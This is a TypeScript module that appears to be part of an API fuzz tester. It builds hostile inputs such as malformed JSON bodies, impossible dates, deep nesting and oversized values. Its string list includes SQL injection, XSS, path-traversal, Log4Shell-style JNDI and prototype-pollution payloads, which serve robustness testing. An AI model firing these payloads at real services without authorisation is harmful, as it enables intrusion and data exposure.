import { typeOf, type Schema } from './generate.js';
import type { Rng } from './rng.js';

/**
 * A value that cannot be written as JSON (Infinity, -0, a number past 2^53, a structure nested thousands deep): kept
 * as a marker string while the body is built, then spliced into the JSON text as it stands.
 */
export const RAW = '__fuzz_raw__:';
export const raw = (text: string) => `${RAW}${text}`;
/** The JSON text of a body, with the raw markers spliced in. */
export const toJsonText = (body: unknown) =>
  JSON.stringify(body).replace(/"__fuzz_raw__:((?:[^"\\]|\\.)*)"/g, (_m, text: string) => JSON.parse(`"${text}"`) as string);

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const nestedObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

/** Text a person or a script might send in any field: control characters, broken UTF-16, sizes, injections. */
export const HOSTILE_TEXT: readonly string[] = [
  '', ' ', '\t\r\n', 'a\u0000b', '\u0000', '\ud800', 'x\udfffy', '\udc00\ud800', '\uffff\ufffe', '\ufeffBOM', '\u202eevil',
  'zero\u200bwidth', '👍🏽🇻🇳', 'e\u0301'.repeat(64), '\u0085\u2028\u2029', 'x'.repeat(5_000), 'A'.repeat(100_000),
  'é'.repeat(200_000), '0', '-1', '1.5', '1e309', 'NaN', 'Infinity', '-Infinity', '0x1F', ' 7 ', '9007199254740993', '-0',
  'true', 'null', 'undefined', '[]', '{}', '__proto__', 'constructor', "'; DROP TABLE app_user; --", "' OR '1'='1",
  '<script>alert(1)</script>', '../../../etc/passwd', '%00', '%', '\\', '${jndi:ldap://x/a}', '{{7*7}}', 'a,b,,c', '*',
  '%_%', 'SELECT pg_sleep(10)', '\u001b[31mred', 'Ω≈ç√∫', '１２３', '٣', 'İı', 'ß'.repeat(300),
];

/** Dates no calendar has, or that a parser gets wrong. */
export const IMPOSSIBLE_DATES: readonly string[] = [
  '2025-02-30', '2025-02-29', '2100-02-29', '1900-02-29', '2025-13-01', '2025-00-10', '2025-04-31', '0000-01-01',
  '9999-12-31', '275760-09-13', '+275760-09-14', '-000001-01-01', '2025-7-1', '20250701', '2024-02-29T25:61:61Z',
  '2025-07-01T00:00:00+99:00', '1970-01-01', '0001-01-01', '2025-07-01T', '2025-W27', '2025-07-01/2025-06-01',
];

/** Periods of no calendar: month 13, week 54, a quarter 5, years of five digits. */
export const IMPOSSIBLE_PERIODS: readonly string[] = [
  '2025M13', '2025M00', '2025M1', '2025Q0', '2025Q5', '2025S0', '2025S3', '2025W00', '2025W54', '2026W53', '2020W53',
  '0000', '99999', '10000M01', '-2025', '2025M', 'M01', '2025Q1M02', '2025BiW27', '2025-13', '202513', '202500', '2025/12',
  '2025April', '2025AprilS1', '2025NovQ1', '1899', '2201', '2026M10;2026M11', '2026M10,', ',,,',
];

/** JSON values of every other type, and numbers at and past the edges. */
const HOSTILE_JSON: readonly unknown[] = [
  0, -1, 1.5, -0.0001, 2147483648, -2147483649, 1e20, true, false, null, [], {}, [null], [[]], { '': '' },
  raw('-0'), raw('9007199254740993'), raw('1e309'), raw('-1e309'), raw('1e-400'), raw('123456789012345678901234567890'),
  raw(nested(3_000)), raw(nestedObject(3_000)), raw('{"__proto__":{"polluted":true}}'), raw('{"constructor":{"prototype":{"polluted":true}}}'),
  Array.from({ length: 20_000 }, () => 1), Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`k${i}`, i])),
];

export interface Hostile {
  label: string;
  value: unknown;
}

const short = (v: unknown) => {
  const text = typeof v === 'string' ? JSON.stringify(v) : String(typeof v === 'object' ? JSON.stringify(v) : v);
  return text.length > 40 ? `${text.slice(0, 40)}…(${text.length})` : text;
};

const DATE_LIKE = /date|asOf|from$|^to$|^at$|since|until|expires|lastUpdated/i;
const PERIOD_LIKE = /period/i;

/**
 * A hostile text (for a path or query parameter, or a string field). A field that holds a date or a period gets
 * an impossible one most of the time: that is where a parser or the database gives way.
 */
export function hostileText(rng: Rng, name = '', s: Schema = {}): Hostile {
  const kind = rng.int(0, 9);
  const dated = s.format === 'date' || s.format === 'date-time' || DATE_LIKE.test(name);
  const periodic = PERIOD_LIKE.test(name) || /\[MQSW]/.test(s.pattern ?? '');
  let value: string;
  if (dated && kind < 7) value = rng.pick(IMPOSSIBLE_DATES);
  else if (periodic && kind < 7) value = rng.pick(IMPOSSIBLE_PERIODS);
  else value = kind < 6 ? rng.pick(HOSTILE_TEXT) : kind < 8 ? rng.pick(IMPOSSIBLE_DATES) : rng.pick(IMPOSSIBLE_PERIODS);
  return { label: `text ${short(value)}`, value };
}

/** A value of the wrong type for the schema. */
function wrongType(rng: Rng, s: Schema): unknown {
  switch (typeOf(s)) {
    case 'string':
      return rng.pick([12, -1, true, null, [], {}, ['x'], raw('1e309')]);
    case 'integer':
    case 'number':
      return rng.pick(['12', '1e3', '', 1.5, true, null, [1], { n: 1 }, raw('1e309'), raw('-1e309'), raw('9007199254740993'), raw('-0')]);
    case 'boolean':
      return rng.pick(['true', 1, 0, null, [], 'yes']);
    case 'array':
      return rng.pick([{}, 'x', 1, null, [[[[]]]], { 0: 'a', length: 1 }]);
    case 'object':
      return rng.pick([[], 'x', 1, null, true, [{}]]);
    default:
      return rng.pick(HOSTILE_JSON);
  }
}

/** A hostile JSON value for a body field of this name and schema. */
export function hostileValue(rng: Rng, s: Schema, name = ''): Hostile {
  const kind = rng.int(0, 9);
  if (kind < 3) {
    const value = wrongType(rng, s);
    return { label: `wrong type ${short(value)}`, value };
  }
  if (kind < 6) return hostileText(rng, name, s);
  const value = rng.pick(HOSTILE_JSON);
  return { label: `value ${short(value)}`, value };
}

/** Whole bodies that are not what any route reads: broken JSON, other types, nesting, sizes. */
export const HOSTILE_BODIES: readonly { label: string; text: string; type?: string }[] = [
  { label: 'truncated JSON', text: '{"a":' },
  { label: 'lone brace', text: '{' },
  { label: 'single-quoted JSON', text: "{'a':1}" },
  { label: 'trailing brace', text: '{"a":1}}' },
  { label: 'NaN literal', text: '{"a":NaN}' },
  { label: 'Infinity literal', text: '{"a":Infinity}' },
  { label: 'NUL body', text: '\u0000' },
  { label: 'empty body', text: '' },
  { label: 'BOM then JSON', text: '\ufeff{}' },
  { label: 'top-level array', text: '[]' },
  { label: 'top-level string', text: '"x"' },
  { label: 'top-level number', text: '1e309' },
  { label: 'top-level null', text: 'null' },
  { label: 'deep arrays', text: nested(100_000) },
  { label: 'deep objects', text: nestedObject(50_000) },
  { label: 'proto pollution', text: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}' },
  { label: 'oversized JSON', text: JSON.stringify({ a: 'x'.repeat(1_100_000) }) },
  { label: 'many keys', text: JSON.stringify(Object.fromEntries(Array.from({ length: 40_000 }, (_, i) => [`k${i}`, i]))) },
  { label: 'text/plain', text: 'hello', type: 'text/plain' },
  { label: 'form-urlencoded', text: 'a=1&a=2&b[c]=3&%E0%A4%A=1', type: 'application/x-www-form-urlencoded' },
  { label: 'XML', text: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>', type: 'application/xml' },
  { label: 'JSON in UTF-16', text: '{"a":1}', type: 'application/json; charset=utf-16' },
  { label: 'multipart without boundary', text: '--x\r\n\r\n', type: 'multipart/form-data' },
  { label: 'truncated multipart', text: '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nvalue', type: 'multipart/form-data; boundary=b' },
  { label: 'CSV with NUL', text: 'dataelement,period,orgunit,value\nA\u0000,2026M10,1,1\n', type: 'text/csv' },
  { label: 'bad content type', text: '{}', type: 'application/json;;;charset' },
  { label: 'unknown type', text: '{}', type: 'application/x-fuzz' },
];
